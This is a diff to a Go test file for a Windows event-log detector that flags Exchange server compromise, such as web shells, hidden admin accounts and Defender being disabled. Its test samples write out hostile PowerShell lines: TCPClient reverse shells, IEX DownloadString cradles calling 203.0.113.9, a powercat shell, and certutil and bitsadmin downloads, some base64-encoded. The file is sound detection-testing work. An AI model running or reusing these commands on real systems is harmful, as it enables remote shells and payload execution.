@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"cmp"
 	"context"
+	"encoding/base64"
 	"slices"
 	"strings"
 	"testing"
@@ -58,6 +59,25 @@ func defender(id uint16, name string) eventlog.Event {
 
 func block(text string) eventlog.Event {
 	return eventOf("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "ScriptBlockText", text, "Path", "")
+}
+
+// shell is PowerShell as its older log has it.
+func shell(command string) eventlog.Event {
+	return eventOf("Windows PowerShell", "PowerShell", 400, "", "Available", "", "None", "", "NewEngineState=Available\r\n\tHostApplication="+command+"\r\n\tEngineVersion=5.1")
+}
+
+// encoded gives a command as PowerShell takes it where nobody is to read it.
+func encoded(command string) string {
+	var wide []byte
+	for _, c := range []byte(command) {
+		wide = append(wide, c, 0)
+	}
+	return base64.StdEncoding.EncodeToString(wide)
+}
+
+// member is somebody who becomes one of a group.
+func member(id uint16, group, sid, who, by string) eventlog.Event {
+	return eventOf("Security", "Microsoft-Windows-Security-Auditing", id, "MemberName", "-", "MemberSid", who, "TargetUserName", group, "TargetSid", sid, "SubjectUserName", by)
 }
 
 // level changes what an event says of its own importance.
@@ -131,6 +151,56 @@ func eventSamples() []eventSample {
 		{"task, as Security has it", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4698, "TaskName", `\VSPerfMon`, "SubjectUserName", "a"), []string{"task-known-security 6"}},
 		{"service", eventOf("System", "Service Control Manager", 7045, "ServiceName", "x", "ImagePath", `%COMSPEC% /C start /b x`, "AccountName", "LocalSystem"), []string{"service-command 6"}},
 		{"another service", eventOf("System", "Service Control Manager", 7045, "ServiceName", "x", "ImagePath", `C:\Program Files\x\x.exe`), none},
+		{"export to a page, as the service says", eventOf("Application", "MSExchange Mailbox Replication", 1, "", `\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\x`+`.aspx`), []string{"event-replication-page 4"}},
+		eventSample{"export to a page, failed", eventOf("Application", "MSExchange Mailbox Replication", 1, "", `C:\inetpub\wwwroot\x`+`.aspx`), []string{"event-replication-page 1"}}.level(2),
+		{"replication", eventOf("Application", "MSExchange Mailbox Replication", 1, "", `\\fs\pst\a.pst`, "", `at d:\sources\x`+`.aspx.cs:line 7, https://mail.contoso.asp.net/EWS/mrsproxy.svc`), none},
+		{"page deleted", sysmon(23, "Image", `C:\Windows\System32\cmd.exe`, "TargetFilename", `C:\inetpub\wwwroot\aspnet_client\x`+`.aspx`), []string{"page-deleted 4"}},
+		{"page deleted, not kept", sysmon(26, "Image", `C:\Windows\System32\cmd.exe`, "TargetFilename", `D:\Exchange\FrontEnd\HttpProxy`+strings.ReplaceAll(page, "/", `\`)), []string{"page-deleted 4"}},
+		{"page deleted by an update", sysmon(23, "Image", `C:\Windows\System32\msiexec.exe`, "TargetFilename", `D:\Exchange\FrontEnd\HttpProxy`+strings.ReplaceAll(page, "/", `\`)), none},
+		{"stock page deleted", sysmon(23, "Image", `C:\Windows\explorer.exe`, "TargetFilename", `D:\Exchange\FrontEnd\HttpProxy\owa\auth\logon.aspx`), none},
+		{"copy of a page deleted", sysmon(23, "Image", `C:\Windows\explorer.exe`, "TargetFilename", `D:\Exchange\FrontEnd\HttpProxy`+strings.ReplaceAll(page, "/", `\`)), []string{"page-deleted 1"}},
+		{"page deleted elsewhere", sysmon(23, "Image", `C:\Windows\explorer.exe`, "TargetFilename", `C:\inetpub\wwwroot\shop\x`+`.aspx`), none},
+		{"passwords in clear text", sysmon(13, "TargetObject", `HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential`, "Details", "DWORD (0x00000001)"), []string{"clear-text 1"}},
+		{"no passwords in clear text", sysmon(13, "TargetObject", `HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential`, "Details", "DWORD (0x00000000)"), none},
+		{"folder", eventOf("Microsoft-IIS-Configuration/Operational", "Microsoft-Windows-IIS-Configuration", 29, "Configuration", "/system.applicationHost/sites/site[@name='x']/application[@path='/']/virtualDirectory[@path='/a']/@physicalPath", "NewValue", `C:\ProgramData\COM`), []string{"iis-folder 1"}},
+		{"folder of a product", eventOf("Microsoft-IIS-Configuration/Operational", "Microsoft-Windows-IIS-Configuration", 29, "Configuration", "/system.applicationHost/sites/site[@name='x']/application[@path='/']/virtualDirectory[@path='/a']/@physicalPath", "NewValue", `D:\Exchange\ClientAccess\owa`), none},
+		{"service of Defender", eventOf("System", "Service Control Manager", 7040, "param1", "Windows Defender", "param2", "auto start", "param3", "disabled", "param4", "WinDefend"), []string{"defender-service-off 1"}},
+		{"service of Defender is back", eventOf("System", "Service Control Manager", 7040, "param1", "Windows Defender", "param2", "disabled", "param3", "auto start", "param4", "WinDefend"), none},
+		{"service of updates", eventOf("System", "Service Control Manager", 7040, "param1", "x", "param2", "auto start", "param3", "disabled", "param4", "BITS"), none},
+		{"administrator by the server", member(4732, "Administrators", "S-1-5-32-544", "S-1-5-21-1-2-3-1234", "EX01$"), []string{"admin-added 1"}},
+		{"administrator", member(4728, "Domänen-Admins", "S-1-5-21-1-2-3-512", "S-1-5-21-1-2-3-1234", "admin"), []string{"admin-added 0"}},
+		{"a server joins a domain", member(4732, "Administrators", "S-1-5-32-544", "S-1-5-21-1-2-3-512", "EX01$"), []string{"admin-added 0"}},
+		{"administrator of Exchange", member(4756, "Organization Management", "S-1-5-21-1-2-3-1601", "S-1-5-21-1-2-3-1234", "EX01$"), []string{"admin-added 0"}},
+		{"another group", member(4732, "Remote Desktop Users", "S-1-5-32-555", "S-1-5-21-1-2-3-1234", "EX01$"), none},
+		{"hidden account", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4720, "TargetUserName", "support$", "SubjectUserName", "admin"), []string{"account-hidden 1"}},
+		{"account like the server's", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4720, "TargetUserName", "asp.net", "SubjectUserName", "admin"), []string{"account-hidden 1"}},
+		{"an account", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4720, "TargetUserName", "j.garcia", "SubjectUserName", "admin"), none},
+		{"account of guests", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4722, "TargetUserName", "Guest", "TargetSid", "S-1-5-21-1-2-3-501", "SubjectUserName", "admin"), []string{"account-opened 1"}},
+		{"account enabled", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4722, "TargetUserName", "j.garcia", "TargetSid", "S-1-5-21-1-2-3-1501", "SubjectUserName", "admin"), none},
+		{"script in parts", block("$c = New-Object Net.Sockets.TCPClient('x',1);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};"), []string{"script-socket 6"}},
+		{"script of a tool", block("powercat -c 203.0.113.9 -p 443 -e cmd"), []string{"script-socket 6"}},
+		{"script that asks for a port", block("$c = New-Object Net.Sockets.TCPClient('ex01',25); $s = $c.GetStream(); $r = New-Object IO.StreamReader($s); $r.ReadLine()"), none},
+		{"words about a tool", block("# looks for powercat, nishang and others"), none},
+		{"script fetched", block("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')"), []string{"script-fetched 6"}},
+		{"script of an installer", block("iex ((New-Object System.Net.WebClient).DownloadString('https://example.org/install.ps1'))"), []string{"script-fetched 1"}},
+		{"script of the own network", process(`powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://192.168.7.1/x')"`), []string{"command-fetched 1"}},
+		{"script fetched by a command", process(`powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')"`), []string{"command-fetched 6"}},
+		{"script fetched, as PowerShell starts", shell("powershell -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')"), []string{"classic-fetched 6"}},
+		{"page fetched", process(`powershell -c "(New-Object Net.WebClient).DownloadString('http://203.0.113.9/health')"`), none},
+		{"socket in a command", process(`powershell -c "$c=New-Object Net.Sockets.TCPClient('203.0.113.9',1);$s=$c.GetStream();iex $d"`), []string{"command-socket 6"}},
+		{"socket, as PowerShell starts", shell(`powershell -c $c=New-Object Net.Sockets.TCPClient('203.0.113.9',1);$s=$c.GetStream();iex $d`), []string{"classic-socket 6"}},
+		{"port asked for in a command", process(`powershell -c "(New-Object Net.Sockets.TCPClient).Connect('ex01',25)"`), none},
+		{"encoded, with a socket", process(`powershell -nop -enc ` + encoded("$c=New-Object Net.Sockets.TCPClient('x',1);$s=$c.GetStream()")), []string{"encoded-command 6"}},
+		{"encoded, asks for a port", process(`powershell -nop -enc ` + encoded("(New-Object Net.Sockets.TCPClient).Connect('x',1)")), []string{"encoded-command 1"}},
+		{"encoded, with a web server", process(`powershell -enc ` + encoded("IEX (New-Object Net.WebClient)")), []string{"encoded-command 1"}},
+		{"encoded", process(`powershell -EncodedCommand ` + encoded("Get-Service MSExchange* | Where Status -ne Running")), none},
+		{"file fetched", process(`certutil -urlcache -split -f http://203.0.113.9/y.exe`), []string{"tool-fetched 6"}},
+		{"file fetched from a name", process(`bitsadmin /transfer j https://example.org/y C:\y`), []string{"tool-fetched 1"}},
+		{"list of certificates fetched", process(`certutil -urlcache -f http://203.0.113.9/root.crl`), none},
+		{"cache of certificates emptied", process(`certutil -urlcache * delete`), none},
+		{"mail exported by a command", process(`powershell -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox a -FilePath \\fs\a.pst"`), []string{"snapin-export 1"}},
+		{"commands of Exchange loaded", process(`powershell -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Queue"`), none},
+		{"trusts asked for", process(`nltest /trusted_domains`), none},
 		{"account", eventOf("Security", "Microsoft-Windows-Security-Auditing", 4720, "TargetUserName", "support$", "SubjectUserName", "EX01$", "SubjectUserSid", eventlog.SID{1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0}), []string{"account-by-server 1"}},
 	}
 }
